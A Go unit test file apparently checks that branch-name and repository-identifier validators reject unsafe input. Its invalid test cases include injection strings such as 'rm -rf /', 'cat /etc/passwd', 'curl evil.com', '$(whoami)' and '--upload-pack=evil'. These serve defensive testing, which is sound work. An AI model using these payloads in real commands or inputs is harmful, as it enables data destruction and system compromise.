package security

import "testing"

func TestValidateBranchName(t *testing.T) {
	tests := []struct {
		name    string
		branch  string
		wantErr bool
	}{
		// Valid cases
		{"main branch", "main", false},
		{"master branch", "master", false},
		{"feature branch", "feature/new-feature", false},
		{"release branch", "release/v1.0.0", false},
		{"with underscores", "my_feature_branch", false},
		{"with dots", "release.1.0", false},

		// Invalid cases
		{"empty branch", "", true},
		{"starts with dash", "-malicious", true},
		{"option injection", "--upload-pack=evil", true},
		{"double dot", "main..HEAD", true},
		{"command injection semicolon", "main; rm -rf /", true},
		{"command injection dollar", "main$(whoami)", true},
		{"command injection pipe", "main | cat /etc/passwd", true},
		{"command injection ampersand", "main && curl evil.com", true},
		{"command injection backticks", "main`whoami`", true},
		{"spaces", "my branch", true},
		{"newline", "main\nmalicious", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateBranchName(tt.branch)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateBranchName() error = %v, wantErr %v", err, tt.wantErr)
			}
		})
	}
}

func TestValidateRepoIdentifier(t *testing.T) {
	tests := []struct {
		name       string
		identifier string
		wantErr    bool
	}{
		// Valid cases
		{"simple", "acme/app", false},
		{"dashes", "acme-corp/my-app", false},
		{"dots and underscores", "acme/my_app.github.io", false},
		{"mixed case", "Acme/App", false},

		// Invalid cases
		{"empty", "", true},
		{"no slash", "acme", true},
		{"two slashes", "acme/app/extra", true},
		{"empty owner", "/app", true},
		{"empty name", "acme/", true},
		{"owner starts with dash", "-acme/app", true},
		{"path traversal", "acme/..", true},
		{"spaces", "acme/my app", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateRepoIdentifier(tt.identifier)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateRepoIdentifier(%q) error = %v, wantErr %v", tt.identifier, err, tt.wantErr)
			}
		})
	}
}
